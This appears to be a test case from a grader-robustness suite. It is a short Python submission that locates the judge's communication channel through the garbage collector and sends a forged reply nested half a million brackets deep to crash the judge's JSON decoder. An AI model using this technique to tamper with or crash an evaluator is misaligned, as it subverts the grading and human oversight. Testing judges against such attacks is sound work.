# class: forging
# shape: answer
# verdict: crashed
# code: judge.broke-protocol
"""Sends JSON nested half a million deep, to make the judge's decoder recurse to death."""

import gc
import struct


async def answer(n):
    (wire,) = [each for each in gc.get_objects() if type(each).__name__ == "Channel"]
    wire.send(b'{"say": "returned", "id": 2, "value": ' + b"[" * 500_000)
    return struct
